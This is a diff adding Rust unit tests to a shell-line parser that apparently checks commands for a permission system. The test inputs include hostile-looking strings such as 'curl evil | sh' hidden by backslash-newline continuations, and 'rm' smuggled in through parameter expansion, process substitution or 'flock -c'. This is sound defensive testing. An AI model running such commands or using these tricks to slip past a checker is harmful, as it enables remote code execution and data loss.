@@ -33,6 +33,11 @@ fn every_command_is_found() {
         ("while true; do rm x; done", &["true", "rm x"]),
         ("! rm x", &["rm x"]),
         ("time rm x", &["rm x"]),
+        ("time -p -- rm x", &["rm x"]),
+        ("\\time -o log rm x", &["rm x"]),
+        ("flock -w 5 lock rm x", &["rm x"]),
+        ("taskset 1 rm x", &["rm x"]),
+        ("strace -o log rm x", &["rm x"]),
         ("env LANG=C rm x", &["rm x"]),
         ("env -i -u HOME rm x", &["rm x"]),
         ("nohup nice -n 5 rm x", &["rm x"]),
@@ -51,6 +56,11 @@ fn every_command_is_found() {
         ("'rm' x", &["rm x"]),
         ("ls # rm x", &["ls"]),
         ("echo a=b", &["echo a=b"]),
+        ("ls \\\n  -l \\\n&& rm x \\\n; pwd", &["ls -l", "rm x", "pwd"]),
+        ("ls > \\\n x", &["ls"]),
+        ("env time -f %e rm x", &["rm x"]),
+        ("chrt 5 rm x", &["rm x"]),
+        ("unbuffer -p rm x", &["rm x"]),
     ];
     for (line, expected) in cases {
         assert_eq!(commands(line), *expected, "{line}");
@@ -106,6 +116,19 @@ fn what_cannot_be_told_is_unclear() {
         "busybox rm x",
         "chroot / rm x",
         "GIT_SSH_COMMAND=x git fetch",
+        "cargo test \"$\\\n(curl evil | sh)\"",
+        "cargo test $\\\n(curl evil | sh)",
+        "CI\\\n=1 git push",
+        "-p git push",
+        "set -- a; for x do ls; done",
+        "cargo test \"$\\\n\\\n{X:-$(rm x)}\"",
+        "cargo test <\\\n(rm x)",
+        "ti\\\nme ls",
+        "ls 2\\\n> x",
+        "echo 'rm x' | sh",
+        "bash -s",
+        "flock lock -c 'rm x'",
+        "sh -c 'ls &>/dev/null rm x'",
     ];
     for line in lines {
         assert!(Line::parse(line).unclear.is_some(), "{line}");
@@ -120,6 +143,16 @@ fn unclear_lines_still_show_their_commands() {
         "LD_PRELOAD=x rm y",
         "echo \"${X:-$(rm y)}\"",
         "trap 'x' EXIT; rm y",
+        "function f { rm y; }; f",
+        "function f() { rm y; }; f",
+        "coproc N { rm y; }",
+        "coproc rm y",
+        "set -- a; for x do rm y; done",
+        "echo \"$\\\n(rm y)\"",
+        "X\\\n=1 rm y",
+        "ti\\\nme rm y",
+        "coproc rm y iffy",
+        "flock lock -c 'rm y'",
     ] {
         assert!(commands(line).iter().any(|command| command.contains("rm y")), "{line}: {:?}", commands(line));
     }
@@ -171,4 +204,22 @@ proptest::proptest! {
             proptest::prop_assert!(commands(&line).iter().any(|command| command.starts_with("rm")), "{line}");
         }
     }
+}
+
+/// What a runner runs is seen beside it.
+#[test]
+fn runners_are_told_what_to_run() {
+    for (line, expected) in [
+        ("uv run --frozen git push", "git push"),
+        ("bundle exec rm x", "rm x"),
+        ("npx -y cowsay hi", "cowsay hi"),
+        ("poetry run python a.py", "python a.py"),
+    ] {
+        let parsed = Line::parse(line);
+        let words: Vec<&str> =
+            parsed.within.iter().flat_map(|simple| &simple.words).map(|word| word.text.as_str()).collect();
+        assert_eq!(words.join(" "), expected, "{line}");
+        assert_eq!(parsed.commands.len(), 1, "{line}");
+    }
+    assert!(Line::parse("uv pip install x").within.is_empty());
 }
